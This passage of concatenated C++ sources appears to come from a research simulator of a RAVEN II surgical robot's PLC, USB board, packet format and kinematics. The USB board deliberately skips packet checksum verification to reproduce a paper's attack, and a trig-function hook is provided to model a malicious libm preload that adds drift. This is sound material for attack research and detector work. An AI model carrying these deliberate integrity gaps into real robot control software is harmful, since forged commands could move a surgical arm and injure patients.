// only cleared by the physical start button.
#pragma once

#include <cstdint>

#include "common/realtime.hpp"
#include "common/robot_state.hpp"

namespace rg {

struct PlcConfig {
  /// Watchdog timeout in control ticks (ms): if the watchdog bit does not
  /// toggle within this window, latch E-STOP.
  std::uint32_t watchdog_timeout_ticks = 10;
};

class Plc {
 public:
  explicit Plc(const PlcConfig& config = {});

  /// Called by the USB board for every received command packet.
  RG_REALTIME void on_command_byte0(bool watchdog_bit, RobotState commanded_state) noexcept;

  /// Advance one control tick (1 ms).  Checks the watchdog deadline.
  RG_REALTIME void tick() noexcept;

  /// Physical emergency-stop button: immediate latch.
  RG_REALTIME void press_estop() noexcept { estop_latched_ = true; }

  /// Physical start button: clears the latch (the control software then
  /// re-runs initialization).
  RG_REALTIME void press_start() noexcept {
    estop_latched_ = false;
    ticks_since_toggle_ = 0;
    seen_any_packet_ = false;
  }

  /// True when the PLC holds the system in E-STOP.
  [[nodiscard]] RG_REALTIME bool estop_latched() const noexcept { return estop_latched_; }

  /// Fail-safe brakes: released only while the system is actively moving
  /// under software command — initialization (homing drives the joints)
  /// and Pedal Down (teleoperation).  Engaged in E-STOP and Pedal Up.
  [[nodiscard]] RG_REALTIME bool brakes_engaged() const noexcept {
    if (estop_latched_) return true;
    return !(last_state_ == RobotState::kPedalDown || last_state_ == RobotState::kInit);
  }

  /// The state most recently commanded by the control software (echoed in
  /// feedback packets).
  [[nodiscard]] RG_REALTIME RobotState reported_state() const noexcept {
    return estop_latched_ ? RobotState::kEStop : last_state_;
  }

 private:
  PlcConfig config_;
  bool estop_latched_ = false;
  bool last_watchdog_bit_ = false;
  bool seen_any_packet_ = false;
  std::uint32_t ticks_since_toggle_ = 0;
  RobotState last_state_ = RobotState::kEStop;
};

}  // namespace rg
