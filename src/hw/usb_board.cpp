#include "hw/usb_board.hpp"

#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace rg {

UsbBoard::UsbBoard(Plc& plc, const MotorChannelConfig& channel_config) : plc_(plc) {
  channels_.fill(MotorChannel{channel_config});
}

RG_REALTIME Status UsbBoard::receive_command(std::span<const std::uint8_t> bytes) noexcept {
  RG_SPAN("board.write");
  RG_COUNT("rg.board.commands", 1);
  // NOTE: verify_checksum = false is the point — the real board trusts
  // whatever arrives (paper Sec. III.B: "the integrity of the packets is
  // not checked after the USB boards receive them").
  auto decoded = decode_command(bytes, /*verify_checksum=*/false);
  if (!decoded.ok()) {
    RG_COUNT("rg.board.malformed_commands", 1);
    return decoded.error();
  }
  last_command_ = decoded.value();
  has_command_ = true;
  plc_.on_command_byte0(last_command_.watchdog_bit, last_command_.state);
  return Status::success();
}

RG_REALTIME Vec3 UsbBoard::modeled_currents() const noexcept {
  if (!has_command_) return Vec3::zero();
  Vec3 currents;
  for (std::size_t i = 0; i < kNumModeledJoints; ++i) {
    currents[i] = channels_[i].current_from_dac(last_command_.dac[i]);
  }
  return currents;
}

RG_REALTIME Vec3 UsbBoard::wrist_currents() const noexcept {
  if (!has_command_) return Vec3::zero();
  Vec3 currents;
  for (std::size_t i = 0; i < 3; ++i) {
    currents[i] = channels_[3 + i].current_from_dac(last_command_.dac[3 + i]);
  }
  return currents;
}

RG_REALTIME void UsbBoard::latch_encoders(const MotorVector& motor_angles,
                                          const Vec3& wrist_angles) noexcept {
  for (std::size_t i = 0; i < kNumModeledJoints; ++i) {
    encoder_counts_[i] = channels_[i].counts_from_angle(motor_angles[i]);
  }
  for (std::size_t i = 0; i < 3; ++i) {
    encoder_counts_[3 + i] = channels_[3 + i].counts_from_angle(wrist_angles[i]);
  }
}

RG_REALTIME double UsbBoard::encoder_angle(std::size_t channel) const noexcept {
  if (channel >= kNumBoardChannels) return 0.0;
  return channels_[channel].angle_from_counts(encoder_counts_[channel]);
}

RG_REALTIME FeedbackBytes UsbBoard::build_feedback() const noexcept {
  FeedbackPacket pkt;
  pkt.state = plc_.reported_state();
  pkt.brakes_engaged = plc_.brakes_engaged();
  pkt.encoders = encoder_counts_;
  return encode_feedback(pkt);
}

}  // namespace rg
