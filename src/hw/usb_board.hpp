// The custom 8-channel USB interface board.
//
// Receives serialized command packets from the control software, latches
// the DAC words, forwards Byte 0 (state + watchdog) to the PLC, and
// assembles feedback packets from the encoder readers.  Faithful to the
// vulnerability the paper exploits: the board performs *no integrity
// verification* on received packets — whatever bytes arrive after the
// software safety checks are executed on the motors.
#pragma once

#include <array>
#include <cstdint>
#include <span>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "hw/motor_controller.hpp"
#include "hw/plc.hpp"
#include "hw/usb_packet.hpp"
#include "kinematics/types.hpp"

namespace rg {

class UsbBoard {
 public:
  /// The board reports to the given PLC; `plc` must outlive the board.
  explicit UsbBoard(Plc& plc, const MotorChannelConfig& channel_config = {});

  /// Deliver one command packet from the (possibly attacker-interposed)
  /// USB channel.  Decodes without checksum verification, latches DAC
  /// words, and forwards Byte 0 to the PLC.  Only a malformed length or
  /// unknown state code is rejected (the hardware cannot parse those).
  [[nodiscard]] RG_REALTIME Status receive_command(std::span<const std::uint8_t> bytes) noexcept;

  /// True once at least one command packet has been latched.
  [[nodiscard]] bool has_command() const noexcept { return has_command_; }

  /// The most recently latched command.
  [[nodiscard]] const CommandPacket& last_command() const noexcept { return last_command_; }

  /// Regulated currents for the three modelled motor channels (A).  Zero
  /// until a command arrives.
  [[nodiscard]] RG_REALTIME Vec3 modeled_currents() const noexcept;

  /// Regulated currents for the wrist/instrument channels 3-5 (A).
  [[nodiscard]] RG_REALTIME Vec3 wrist_currents() const noexcept;

  /// Latch encoder readings: three positioning motors (shaft rad) and the
  /// three wrist axes on channels 3-5.
  RG_REALTIME void latch_encoders(const MotorVector& motor_angles,
                                  const Vec3& wrist_angles = Vec3::zero()) noexcept;

  /// Latched encoder angle (rad) of a modelled channel — what the control
  /// software will see, including quantization.
  [[nodiscard]] RG_REALTIME double encoder_angle(std::size_t channel) const noexcept;

  /// Assemble the feedback packet bytes for the next read() by the
  /// control software.
  [[nodiscard]] RG_REALTIME FeedbackBytes build_feedback() const noexcept;

  [[nodiscard]] const MotorChannel& channel(std::size_t i) const { return channels_.at(i); }

 private:
  Plc& plc_;
  std::array<MotorChannel, kNumBoardChannels> channels_;
  std::array<std::int32_t, kNumBoardChannels> encoder_counts_{};
  CommandPacket last_command_{};
  bool has_command_ = false;
};

}  // namespace rg
