#include "hw/usb_packet.hpp"

namespace rg {

namespace {

constexpr std::uint8_t kWatchdogMask = 0x10;
constexpr std::uint8_t kStateMask = 0x0F;
constexpr std::uint8_t kBrakeMask = 0x20;

RG_REALTIME void put_i16(std::span<std::uint8_t> dst, std::int16_t v) noexcept {
  const auto u = static_cast<std::uint16_t>(v);
  dst[0] = static_cast<std::uint8_t>(u & 0xFF);
  dst[1] = static_cast<std::uint8_t>((u >> 8) & 0xFF);
}

RG_REALTIME std::int16_t get_i16(std::span<const std::uint8_t> src) noexcept {
  const auto u = static_cast<std::uint16_t>(src[0] | (static_cast<std::uint16_t>(src[1]) << 8));
  return static_cast<std::int16_t>(u);
}

RG_REALTIME void put_i32(std::span<std::uint8_t> dst, std::int32_t v) noexcept {
  const auto u = static_cast<std::uint32_t>(v);
  dst[0] = static_cast<std::uint8_t>(u & 0xFF);
  dst[1] = static_cast<std::uint8_t>((u >> 8) & 0xFF);
  dst[2] = static_cast<std::uint8_t>((u >> 16) & 0xFF);
  dst[3] = static_cast<std::uint8_t>((u >> 24) & 0xFF);
}

RG_REALTIME std::int32_t get_i32(std::span<const std::uint8_t> src) noexcept {
  const std::uint32_t u = static_cast<std::uint32_t>(src[0]) |
                          (static_cast<std::uint32_t>(src[1]) << 8) |
                          (static_cast<std::uint32_t>(src[2]) << 16) |
                          (static_cast<std::uint32_t>(src[3]) << 24);
  return static_cast<std::int32_t>(u);
}

}  // namespace

RG_REALTIME std::uint8_t xor_checksum(std::span<const std::uint8_t> bytes) noexcept {
  std::uint8_t sum = 0;
  for (std::uint8_t b : bytes) sum ^= b;
  return sum;
}

RG_REALTIME CommandBytes encode_command(const CommandPacket& pkt) noexcept {
  CommandBytes out{};
  out[0] = static_cast<std::uint8_t>(wire_code(pkt.state) |
                                     (pkt.watchdog_bit ? kWatchdogMask : 0));
  for (std::size_t ch = 0; ch < kNumBoardChannels; ++ch) {
    put_i16(std::span{out}.subspan(1 + 2 * ch, 2), pkt.dac[ch]);
  }
  out[kCommandPacketSize - 1] =
      xor_checksum(std::span{out}.first(kCommandPacketSize - 1));
  return out;
}

RG_REALTIME Result<CommandPacket> decode_command(std::span<const std::uint8_t> bytes,
                                                 bool verify_checksum) noexcept {
  if (bytes.size() != kCommandPacketSize) {
    return Error{ErrorCode::kMalformedPacket, "command packet must be 18 bytes"};
  }
  if (verify_checksum &&
      xor_checksum(bytes.first(kCommandPacketSize - 1)) != bytes[kCommandPacketSize - 1]) {
    return Error{ErrorCode::kChecksumMismatch, "command packet checksum mismatch"};
  }
  const auto state = state_from_wire_code(bytes[0] & kStateMask);
  if (!state) {
    return Error{ErrorCode::kMalformedPacket, "unknown robot state code in Byte 0"};
  }
  CommandPacket pkt;
  pkt.state = *state;
  pkt.watchdog_bit = (bytes[0] & kWatchdogMask) != 0;
  for (std::size_t ch = 0; ch < kNumBoardChannels; ++ch) {
    pkt.dac[ch] = get_i16(bytes.subspan(1 + 2 * ch, 2));
  }
  return pkt;
}

RG_REALTIME FeedbackBytes encode_feedback(const FeedbackPacket& pkt) noexcept {
  FeedbackBytes out{};
  out[0] = static_cast<std::uint8_t>(wire_code(pkt.state) |
                                     (pkt.brakes_engaged ? kBrakeMask : 0));
  for (std::size_t ch = 0; ch < kNumBoardChannels; ++ch) {
    put_i32(std::span{out}.subspan(1 + 4 * ch, 4), pkt.encoders[ch]);
  }
  out[kFeedbackPacketSize - 1] =
      xor_checksum(std::span{out}.first(kFeedbackPacketSize - 1));
  return out;
}

RG_REALTIME Result<FeedbackPacket> decode_feedback(std::span<const std::uint8_t> bytes,
                                                   bool verify_checksum) noexcept {
  if (bytes.size() != kFeedbackPacketSize) {
    return Error{ErrorCode::kMalformedPacket, "feedback packet must be 34 bytes"};
  }
  if (verify_checksum &&
      xor_checksum(bytes.first(kFeedbackPacketSize - 1)) != bytes[kFeedbackPacketSize - 1]) {
    return Error{ErrorCode::kChecksumMismatch, "feedback packet checksum mismatch"};
  }
  const auto state = state_from_wire_code(bytes[0] & kStateMask);
  if (!state) {
    return Error{ErrorCode::kMalformedPacket, "unknown robot state code in Byte 0"};
  }
  FeedbackPacket pkt;
  pkt.state = *state;
  pkt.brakes_engaged = (bytes[0] & kBrakeMask) != 0;
  for (std::size_t ch = 0; ch < kNumBoardChannels; ++ch) {
    pkt.encoders[ch] = get_i32(bytes.subspan(1 + 4 * ch, 4));
  }
  return pkt;
}

}  // namespace rg
