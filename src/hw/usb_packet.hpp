// Wire format of the packets exchanged between the control software and
// the USB interface boards.
//
// Command packet (software -> board), 18 bytes:
//   Byte 0      : bits 0-3 = robot state wire code, bit 4 = watchdog
//                 square-wave toggle (the "I'm alive" signal to the PLC).
//   Bytes 1-16  : 8 channels x int16 little-endian DAC words.
//   Byte 17     : XOR checksum of bytes 0..16.  *The board does not verify
//                 it* — this is the integrity-check gap the paper's
//                 scenario-B attack exploits (checked on decode only when
//                 the caller asks, mirroring the real hardware).
//
// Feedback packet (board -> software), 34 bytes:
//   Byte 0      : robot state wire code echoed by the PLC (bits 0-3) and
//                 brake status (bit 5).
//   Bytes 1-32  : 8 channels x int32 little-endian encoder counts.
//   Byte 33     : XOR checksum of bytes 0..32 (same caveat).
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>
#include <span>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "common/robot_state.hpp"
#include "common/units.hpp"

namespace rg {

inline constexpr std::size_t kCommandPacketSize = 18;
inline constexpr std::size_t kFeedbackPacketSize = 34;

using CommandBytes = std::array<std::uint8_t, kCommandPacketSize>;
using FeedbackBytes = std::array<std::uint8_t, kFeedbackPacketSize>;

/// Decoded command packet.
struct CommandPacket {
  RobotState state = RobotState::kEStop;
  bool watchdog_bit = false;
  std::array<std::int16_t, kNumBoardChannels> dac{};

  friend constexpr bool operator==(const CommandPacket&, const CommandPacket&) = default;
};

/// Decoded feedback packet.
struct FeedbackPacket {
  RobotState state = RobotState::kEStop;
  bool brakes_engaged = true;
  std::array<std::int32_t, kNumBoardChannels> encoders{};

  friend constexpr bool operator==(const FeedbackPacket&, const FeedbackPacket&) = default;
};

/// XOR checksum over a byte range.
[[nodiscard]] RG_REALTIME std::uint8_t xor_checksum(std::span<const std::uint8_t> bytes) noexcept;

/// Serialize a command packet (computes the checksum byte).
[[nodiscard]] RG_REALTIME CommandBytes encode_command(const CommandPacket& pkt) noexcept;

/// Parse a command packet.  When verify_checksum is false — how the real
/// USB board behaves — a corrupted payload decodes without complaint.
[[nodiscard]] RG_REALTIME Result<CommandPacket> decode_command(
    std::span<const std::uint8_t> bytes, bool verify_checksum = false) noexcept;

/// Serialize a feedback packet (computes the checksum byte).
[[nodiscard]] RG_REALTIME FeedbackBytes encode_feedback(const FeedbackPacket& pkt) noexcept;

/// Parse a feedback packet; same checksum semantics as decode_command.
[[nodiscard]] RG_REALTIME Result<FeedbackPacket> decode_feedback(
    std::span<const std::uint8_t> bytes, bool verify_checksum = false) noexcept;

}  // namespace rg
