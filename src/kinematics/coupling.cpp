#include "kinematics/coupling.hpp"

namespace rg {

CableCoupling::CableCoupling(const TransmissionParams& params) : params_(params) {
  require(params.shoulder_ratio > 0.0, "shoulder_ratio must be > 0");
  require(params.elbow_ratio > 0.0, "elbow_ratio must be > 0");
  require(params.insertion_m_per_rad > 0.0, "insertion_m_per_rad must be > 0");
  require(params.elbow_shoulder_coupling >= 0.0 && params.elbow_shoulder_coupling < 1.0,
          "elbow_shoulder_coupling in [0,1)");
  require(params.insertion_posture_coupling >= 0.0 && params.insertion_posture_coupling < 1.0,
          "insertion_posture_coupling in [0,1)");

  Mat3 c;  // jpos = c * mpos, lower-triangular
  c(0, 0) = 1.0 / params.shoulder_ratio;
  c(1, 0) = -params.elbow_shoulder_coupling / params.elbow_ratio;
  c(1, 1) = 1.0 / params.elbow_ratio;
  c(2, 0) = params.insertion_posture_coupling * params.insertion_m_per_rad;
  c(2, 1) = params.insertion_posture_coupling * params.insertion_m_per_rad;
  c(2, 2) = params.insertion_m_per_rad;
  motor_to_joint_ = c;
  joint_to_motor_ = c.inverse();
}

}  // namespace rg
