// Motor <-> joint transmission for the cable-driven positioning stage.
//
// Each positioning joint is driven by a DC motor through a gearhead and a
// cable capstan.  The cable routing couples adjacent axes (the elbow cable
// runs over the shoulder pulley), so joint positions are a *linear* map of
// motor shaft angles:
//
//   jpos = C * mpos,    mpos = C^{-1} * jpos
//
// with C lower-triangular.  The same map applies to velocities.  Row 2
// converts motor radians to insertion metres through the capstan radius.
#pragma once

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "kinematics/types.hpp"
#include "math/mat.hpp"

namespace rg {

/// Transmission parameters for one RAVEN arm's positioning stage.
struct TransmissionParams {
  double shoulder_ratio = 57.0;      ///< motor rad per shoulder-joint rad
  double elbow_ratio = 57.0;         ///< motor rad per elbow-joint rad
  double insertion_m_per_rad = 5.0e-4;  ///< insertion metres per motor rad
  /// Cable-routing coupling: fraction of shoulder motor motion appearing
  /// at the elbow joint (the elbow cable rides the shoulder pulley).
  double elbow_shoulder_coupling = 0.25;
  /// Fraction of shoulder+elbow motor motion appearing at the insertion
  /// axis (insertion cable path length changes with arm posture).
  double insertion_posture_coupling = 0.02;

  friend constexpr bool operator==(const TransmissionParams&, const TransmissionParams&) = default;
};

class CableCoupling {
 public:
  explicit CableCoupling(const TransmissionParams& params = {});

  /// Joint coordinates produced by motor shaft angles.
  [[nodiscard]] RG_REALTIME JointVector motor_to_joint(const MotorVector& mpos) const noexcept {
    return motor_to_joint_ * mpos;
  }

  /// Motor shaft angles required for joint coordinates.
  [[nodiscard]] RG_REALTIME MotorVector joint_to_motor(const JointVector& jpos) const noexcept {
    return joint_to_motor_ * jpos;
  }

  /// The linear map is also the velocity map.
  [[nodiscard]] RG_REALTIME JointVector motor_to_joint_velocity(const MotorVector& mvel) const noexcept {
    return motor_to_joint_ * mvel;
  }
  [[nodiscard]] RG_REALTIME MotorVector joint_to_motor_velocity(const JointVector& jvel) const noexcept {
    return joint_to_motor_ * jvel;
  }

  /// Torque reflected from joint side to motor side: tau_m = C^T * tau_j
  /// (duality of the position map).
  [[nodiscard]] RG_REALTIME MotorVector joint_torque_to_motor(const Vec3& joint_torque) const noexcept {
    return motor_to_joint_.transpose() * joint_torque;
  }

  [[nodiscard]] const Mat3& motor_to_joint_matrix() const noexcept { return motor_to_joint_; }
  [[nodiscard]] const TransmissionParams& params() const noexcept { return params_; }

 private:
  TransmissionParams params_;
  Mat3 motor_to_joint_;
  Mat3 joint_to_motor_;
};

}  // namespace rg
