// Joint workspace limits for the modelled positioning joints.
#pragma once

#include <array>
#include <cstddef>

#include "common/realtime.hpp"
#include "kinematics/types.hpp"

namespace rg {

/// Closed interval limit for one joint coordinate.
struct JointLimit {
  double min = 0.0;
  double max = 0.0;

  [[nodiscard]] RG_REALTIME constexpr bool contains(double q) const noexcept {
    return q >= min && q <= max;
  }
  [[nodiscard]] RG_REALTIME constexpr double clamp(double q) const noexcept {
    return q < min ? min : (q > max ? max : q);
  }
  [[nodiscard]] RG_REALTIME constexpr double span() const noexcept { return max - min; }
  [[nodiscard]] RG_REALTIME constexpr double midpoint() const noexcept { return 0.5 * (min + max); }

  friend constexpr bool operator==(const JointLimit&, const JointLimit&) = default;
};

/// Limits for the three positioning joints.
class JointLimits {
 public:
  constexpr JointLimits(JointLimit shoulder, JointLimit elbow, JointLimit insertion)
      : limits_{shoulder, elbow, insertion} {}

  /// RAVEN-flavoured defaults: shoulder +/-80 deg, elbow 12..168 deg
  /// (avoiding the RCM polar singularities), insertion 5..300 mm.
  static constexpr JointLimits raven_defaults() {
    return JointLimits{{-1.396, 1.396}, {0.21, 2.93}, {0.005, 0.300}};
  }

  [[nodiscard]] RG_REALTIME constexpr const JointLimit& joint(std::size_t i) const { return limits_[i]; }

  [[nodiscard]] RG_REALTIME constexpr bool contains(const JointVector& q) const noexcept {
    for (std::size_t i = 0; i < 3; ++i) {
      if (!limits_[i].contains(q[i])) return false;
    }
    return true;
  }

  [[nodiscard]] RG_REALTIME constexpr JointVector clamp(JointVector q) const noexcept {
    for (std::size_t i = 0; i < 3; ++i) q[i] = limits_[i].clamp(q[i]);
    return q;
  }

  /// A mid-workspace configuration used as the homing target.
  [[nodiscard]] RG_REALTIME constexpr JointVector midpoint() const noexcept {
    return JointVector{limits_[0].midpoint(), limits_[1].midpoint(), limits_[2].midpoint()};
  }

  friend constexpr bool operator==(const JointLimits&, const JointLimits&) = default;

 private:
  std::array<JointLimit, 3> limits_;
};

}  // namespace rg
