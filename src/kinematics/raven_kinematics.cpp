#include "kinematics/raven_kinematics.hpp"

#include <algorithm>
#include <cmath>

namespace rg {

namespace {
double libm_sin(double x) { return std::sin(x); }
double libm_cos(double x) { return std::cos(x); }
double libm_acos(double x) { return std::acos(x); }
double libm_atan2(double y, double x) { return std::atan2(y, x); }
}  // namespace

const MathHooks& MathHooks::libm() noexcept {
  static const MathHooks hooks{libm_sin, libm_cos, libm_acos, libm_atan2};
  return hooks;
}

RG_REALTIME Position RavenKinematics::forward(const JointVector& q) const noexcept {
  const double s2 = hooks_.sin(q[1]);
  const Vec3 dir{s2 * hooks_.cos(q[0]), s2 * hooks_.sin(q[0]), -hooks_.cos(q[1])};
  return rcm_ + q[2] * dir;
}

RG_REALTIME Result<JointVector> RavenKinematics::inverse(const Position& target) const noexcept {
  const Vec3 rel = target - rcm_;
  const double r = rel.norm();
  if (r < 1e-9) {
    return Error{ErrorCode::kUnreachable, "IK target coincides with the remote center"};
  }
  const double q3 = r;
  // cos(q2) = -z/r; clamp against rounding.
  const double c2 = std::clamp(-rel[2] / r, -1.0, 1.0);
  const double q2 = hooks_.acos(c2);
  // At the polar singularity the azimuth is undefined; the joint limits on
  // q2 exclude it, so reject rather than guess.
  const double planar = std::hypot(rel[0], rel[1]);
  if (planar < 1e-12) {
    return Error{ErrorCode::kUnreachable, "IK target on the polar axis (azimuth undefined)"};
  }
  const double q1 = hooks_.atan2(rel[1], rel[0]);
  const JointVector q{q1, q2, q3};
  if (!limits_.contains(q)) {
    return Error{ErrorCode::kUnreachable, "IK solution violates joint limits"};
  }
  if (!std::isfinite(q1) || !std::isfinite(q2) || !std::isfinite(q3)) {
    return Error{ErrorCode::kUnreachable, "IK produced a non-finite solution"};
  }
  return q;
}

RG_REALTIME Mat3 RavenKinematics::jacobian(const JointVector& q) const noexcept {
  const double s1 = std::sin(q[0]);
  const double c1 = std::cos(q[0]);
  const double s2 = std::sin(q[1]);
  const double c2 = std::cos(q[1]);
  const double d3 = q[2];
  Mat3 j;
  // column 0: d p / d q1
  j(0, 0) = -d3 * s2 * s1;
  j(1, 0) = d3 * s2 * c1;
  j(2, 0) = 0.0;
  // column 1: d p / d q2
  j(0, 1) = d3 * c2 * c1;
  j(1, 1) = d3 * c2 * s1;
  j(2, 1) = d3 * s2;
  // column 2: d p / d q3
  j(0, 2) = s2 * c1;
  j(1, 2) = s2 * s1;
  j(2, 2) = -c2;
  return j;
}

RG_REALTIME double RavenKinematics::tip_speed(const JointVector& q, const JointVector& qdot) const noexcept {
  return (jacobian(q) * qdot).norm();
}

}  // namespace rg
