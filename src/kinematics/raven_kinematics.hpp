// Forward / inverse kinematics of the RAVEN II positioning stage.
//
// The RAVEN II arm is a cable-driven spherical mechanism whose first two
// revolute axes intersect at a fixed remote center of motion (RCM, the
// surgical port), with a prismatic tool-insertion axis along the tool
// shaft.  Following the paper's reduced model (the three positioning
// joints dominate end-effector position), we model the stage as an
// RCM-spherical chain:
//
//   q = [q1 (shoulder azimuth, rad), q2 (elbow polar angle, rad),
//        q3 (insertion depth, m)]
//
//   tool direction d(q1,q2) = [sin q2 cos q1, sin q2 sin q1, -cos q2]
//   end-effector position p = p_rcm + q3 * d(q1, q2)
//
// q2 = 0 points the tool straight up and q2 = pi straight down; the joint
// limits exclude both polar singularities, which keeps the inverse map
// single-valued over the workspace.
#pragma once

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "kinematics/joint_limits.hpp"
#include "kinematics/types.hpp"
#include "math/mat.hpp"

namespace rg {

/// Trigonometric entry points used by the kinematics.  On the real robot
/// these are libm symbols — which the paper's Table I attacks hijack via
/// LD_PRELOAD to add drift.  Routing them through this struct gives the
/// attack engine the same interposition point.
struct MathHooks {
  double (*sin)(double) = nullptr;
  double (*cos)(double) = nullptr;
  double (*acos)(double) = nullptr;
  double (*atan2)(double, double) = nullptr;

  /// The honest libm binding.
  static const MathHooks& libm() noexcept;
};

class RavenKinematics {
 public:
  explicit RavenKinematics(Position rcm_origin = Position{0.0, 0.0, 0.0},
                           JointLimits limits = JointLimits::raven_defaults())
      : rcm_(rcm_origin), limits_(limits), hooks_(MathHooks::libm()) {}

  /// Replace the math bindings (models a malicious libm preload).  Pass
  /// MathHooks::libm() to restore honest behaviour.
  void set_math_hooks(const MathHooks& hooks) noexcept { hooks_ = hooks; }

  /// End-effector position for a joint configuration.
  [[nodiscard]] RG_REALTIME Position forward(const JointVector& q) const noexcept;

  /// Joint configuration reaching a Cartesian target.  Fails with
  /// kUnreachable when the target is at the RCM (undefined direction) or
  /// the solution violates the joint limits.
  [[nodiscard]] RG_REALTIME Result<JointVector> inverse(const Position& target) const noexcept;

  /// Geometric Jacobian d p / d q at a configuration (3x3; column i is the
  /// end-effector velocity per unit velocity of joint i).
  [[nodiscard]] RG_REALTIME Mat3 jacobian(const JointVector& q) const noexcept;

  /// Cartesian end-effector speed (m/s) produced by joint rates qdot at q.
  [[nodiscard]] RG_REALTIME double tip_speed(const JointVector& q, const JointVector& qdot) const noexcept;

  [[nodiscard]] const JointLimits& limits() const noexcept { return limits_; }
  [[nodiscard]] const Position& rcm_origin() const noexcept { return rcm_; }

 private:
  Position rcm_;
  JointLimits limits_;
  MathHooks hooks_;
};

}  // namespace rg
