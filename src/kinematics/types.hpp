// Shared kinematic vocabulary types.
#pragma once

#include "math/vec.hpp"

namespace rg {

/// Joint-space coordinates of the three modelled positioning joints:
///   [0] shoulder rotation (rad), [1] elbow rotation (rad),
///   [2] tool insertion depth (m).
using JointVector = Vec3;

/// Motor-space coordinates (motor shaft angle, rad) of the three motors
/// driving the positioning joints.
using MotorVector = Vec3;

/// Cartesian end-effector position (m) in the arm base frame.
using Position = Vec3;

/// End-effector orientation as roll/pitch/yaw (rad).  The paper's reduced
/// model treats orientation as driven by the unmodelled wrist joints; we
/// carry it as pass-through state.
using Orientation = Vec3;

/// Full end-effector pose.
struct Pose {
  Position pos{};
  Orientation ori{};
  friend constexpr bool operator==(const Pose&, const Pose&) = default;
};

}  // namespace rg
