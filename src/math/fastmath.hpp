// Branch-free, auto-vectorizable transcendental kernels.
//
// The dynamic model evaluates sin/cos of the elbow angle and six
// tanh-smoothed Coulomb terms on every derivative call — at libm cost
// (~150 ns/eval on a typical Xeon) they dominate the hot loop and, being
// opaque calls, they also stop the compiler from vectorizing the batched
// SoA kernel.  These replacements are pure double arithmetic + integer
// bit manipulation: no table lookups, no data-dependent branches, no
// errno — so GCC vectorizes a loop of them wholesale (SSE2 upward).
//
// Accuracy: ~1 ulp for fast_exp on its clamped domain, |err| < 1e-15 for
// fast_sincos after Cody-Waite reduction (|x| ≲ 2^40), and < 4e-15 for
// fast_tanh; far below the plant's drive-current noise floor and the
// detector's model-calibration error.  Inputs so large that the quadrant
// reduction would lose all precision (attack-divergent states) are
// clamped to the primary interval instead of returning garbage/NaN —
// bounded nonsense for already-nonsensical states, exactly like libm's
// bounded-but-meaningless results there.
//
// Used by the shared per-lane dynamics kernel (dynamics/lane_kernel.hpp),
// which is the single source of truth for both the scalar model and the
// batched SoA model — so scalar and batched trajectories stay
// bit-identical lane for lane.
#pragma once

#include <bit>
#include <cstdint>

#include "common/realtime.hpp"

// These kernels must inline into the dynamics lane loops for those loops to
// vectorize (an outlined call vetoes the vectorizer); GCC's cost model
// sometimes declines on its own once several copies land in one caller.
#if defined(__GNUC__)
#define RG_FASTMATH_INLINE inline __attribute__((always_inline))
#else
#define RG_FASTMATH_INLINE inline
#endif

namespace rg {

namespace detail {

/// Round-to-nearest-integer-valued double via the 2^52 magic constant
/// (round-to-nearest-even FP mode; valid for |x| < 2^51).  Vectorizes as
/// one add + one sub; also leaves the integer in the payload bits for
/// exponent assembly.
inline constexpr double kRoundMagic = 6755399441055744.0;  // 1.5 * 2^52

}  // namespace detail

/// e^x for x in [-708, 708], ~1 ulp.  Clamped outside (no inf/NaN).
RG_REALTIME RG_FASTMATH_INLINE double fast_exp(double x) noexcept {
  // Clamp to the finite-result domain; keeps 2^k exponent assembly legal.
  x = x < -700.0 ? -700.0 : (x > 700.0 ? 700.0 : x);

  // x = k*ln2 + r, |r| <= ln2/2, with k recovered from the magic-number
  // payload bits (no cvttsd round trip — stays in SIMD registers).
  constexpr double kInvLn2 = 1.4426950408889634074;
  constexpr double kLn2Hi = 6.93147180369123816490e-01;
  constexpr double kLn2Lo = 1.90821492927058770002e-10;
  const double kd = x * kInvLn2 + detail::kRoundMagic;
  // kd = 1.5*2^52 + k, so kd's mantissa field holds 2^51 + k; turn that
  // into the biased exponent k + 1023 with unsigned adds only (no 64-bit
  // arithmetic shift, which SSE2 cannot vectorize).
  const std::uint64_t mant = std::bit_cast<std::uint64_t>(kd) & 0x000FFFFFFFFFFFFFULL;
  const std::uint64_t biased = mant + (1023ULL - (1ULL << 51U));
  const double k = kd - detail::kRoundMagic;
  const double r = (x - k * kLn2Hi) - k * kLn2Lo;

  // Degree-13 Taylor of e^r on |r| <= 0.347 (max error ~4e-18 relative).
  double p = 1.0 / 6227020800.0;  // 1/13!
  p = p * r + 1.0 / 479001600.0;
  p = p * r + 1.0 / 39916800.0;
  p = p * r + 1.0 / 3628800.0;
  p = p * r + 1.0 / 362880.0;
  p = p * r + 1.0 / 40320.0;
  p = p * r + 1.0 / 5040.0;
  p = p * r + 1.0 / 720.0;
  p = p * r + 1.0 / 120.0;
  p = p * r + 1.0 / 24.0;
  p = p * r + 1.0 / 6.0;
  p = p * r + 1.0 / 2.0;
  p = p * r + 1.0;
  p = p * r + 1.0;

  // p * 2^k via direct exponent assembly.
  const double two_k = std::bit_cast<double>(biased << 52U);
  return p * two_k;
}

/// tanh(x), |err| < 4e-15 absolute; exact sign and saturation.
RG_REALTIME RG_FASTMATH_INLINE double fast_tanh(double x) noexcept {
  // Saturate: tanh(19) differs from 1 by < 1e-16.
  const double ax = x < 0.0 ? -x : x;
  const double t = ax > 19.0 ? 19.0 : ax;
  // tanh(t) = (1 - e^{-2t}) / (1 + e^{-2t}); e^{-2t} in (0, 1] is
  // cancellation-safe on both numerator and denominator.
  const double e = fast_exp(-2.0 * t);
  const double y = (1.0 - e) / (1.0 + e);
  return x < 0.0 ? -y : y;
}

/// Simultaneous sin/cos, |err| < 1e-15 for |x| up to ~2^40; larger inputs
/// (physically meaningless states) produce bounded values in [-1, 1].
RG_REALTIME RG_FASTMATH_INLINE void fast_sincos(double x, double& s_out, double& c_out) noexcept {
  // Quadrant reduction: x = n*(pi/2) + r, |r| <= pi/4, Cody-Waite 3-term.
  constexpr double kTwoOverPi = 0.63661977236758134308;
  constexpr double kPio2Hi = 1.57079632673412561417e+00;
  constexpr double kPio2Mid = 6.07710050650619224932e-11;
  constexpr double kPio2Lo = 2.02226624879595063154e-21;
  const double nd = x * kTwoOverPi + detail::kRoundMagic;
  const auto quadrant =
